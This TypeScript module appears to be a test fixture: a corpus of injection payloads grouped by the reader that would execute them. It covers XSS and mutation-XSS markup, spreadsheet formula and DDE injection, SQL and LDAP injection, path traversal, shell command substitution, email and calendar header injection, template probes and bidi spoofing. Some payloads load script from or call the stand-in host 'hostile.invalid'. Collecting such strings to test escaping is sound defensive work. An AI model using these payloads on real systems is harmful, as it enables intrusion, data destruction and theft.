/** Where a string of the corpus is at home: which reader of it would do something with it instead of showing it. */
export type Reader =
  | "page"
  | "spreadsheet"
  | "database"
  | "system"
  | "header"
  | "typesetter"
  | "printer"
  | "eye"
  | "parser";

export interface HostileWord {
  readonly name: string;
  readonly reader: Reader;
  readonly text: string;
}

/** A host that nothing of ours may ever ask: whatever does so was told to by a text. */
export const hostileHost = "hostile.invalid";

const word =
  (reader: Reader) =>
  (name: string, text: string): HostileWord => ({ name, reader, text });
const [page, spreadsheet, database, system, header, typesetter, printer, eye, parser] = [
  ...[word("page"), word("spreadsheet"), word("database"), word("system"), word("header")],
  ...[word("typesetter"), word("printer"), word("eye"), word("parser")],
] as const;

/** Each calls `alert` or asks the hostile host when it runs, so that a trap needs to know no other sign. */
export const corpus: readonly HostileWord[] = [
  page("a script", "<script>alert(1)</script>"),
  page("a script's end before a script", "</script><script src=//hostile.invalid></script>"),
  page("a picture that fails", "<img src=x onerror=alert(2)>"),
  page("a drawing that loads", "<svg/onload=alert(3)>"),
  page("out of an attribute", `" autofocus onfocus=alert(4) x="`),
  page("out of an attribute in single quotes", "' onmouseover=alert(5) x='"),
  page("out of a text area", "</textarea><img src=x onerror=alert(6)>"),
  page("out of a title", "</title><iframe srcdoc='<script>alert(7)</script>'>"),
  page("another tree after parsing (mXSS)", "<math><mi><style><!--</style><img src=x onerror=alert(8)>"),
  page("a base and a picture", "<base href=//hostile.invalid><img src=a>"),
  page("an address that runs", "javascript:alert(9)//"),
  page("an address of data that runs", "data:text/html,<script>alert(10)</script>"),
  page("a style that asks elsewhere", "<style>@import'//hostile.invalid'</style>"),
  page("entities", "&lt;img src=x onerror=alert(11)&gt;&#60;b&#62;"),
  page("markdown", "[a](javascript:alert(12)) ![](//hostile.invalid/p)"),
  spreadsheet("a formula", `=HYPERLINK("//hostile.invalid","a")`),
  spreadsheet("a formula by plus", "+1+1"),
  spreadsheet("a formula by minus", "-2+3"),
  spreadsheet("a formula by at", "@SUM(1+1)"),
  spreadsheet("a formula behind a tab", "\t=1+1"),
  spreadsheet("a formula behind a carriage return", "\r=1+1"),
  spreadsheet("an exchange with a program (DDE)", "=cmd|'/C calc'!A0"),
  spreadsheet("a cell's end before a formula", `a","=1+1","`),
  database("a quote", "' OR '1'='1"),
  database("a statement", "'; drop table patients; --"),
  database("what a pattern finds", "%_\\"),
  system("a filter of a directory", "*)(uid=*))(|(uid=*"),
  system("a path", "../../../../etc/passwd"),
  system("a command", "$(id) `id` | id"),
  header("a header behind a line", "a\r\nBcc: all@hostile.invalid\r\n\r\nb"),
  header("a line of a calendar", "a\rATTACH:http://hostile.invalid/a"),
  typesetter("markup of the typesetter", `#import "@preview/a" #read("/etc/passwd")`),
  typesetter("half of a formula of the typesetter", "$ x [#panic() @ref <l>"),
  printer("bytes that a printer takes for commands", "\u001b@\u001dV\u0000\u0007a"),
  eye("a text turned about", "a\u202ecod.exe\u2066b\u200b\u200fc"),
  eye("signs outside of the first plane and many marks", `🩺👩🏽‍⚕️${"e\u0301\u0300\u0302".repeat(3)}`),
  eye("letters right to left and of India", "שלום مرحبا आशा தமிழ்"),
  parser("half of a pair, and line ends of scripts", "a\ud800b\u2028c\u2029d"),
  parser("places of templates", `{{7*7}} \${7*7} <%= 7*7 %> {0, plural, other {#}}`),
  parser("the prototype", "__proto__"),
];
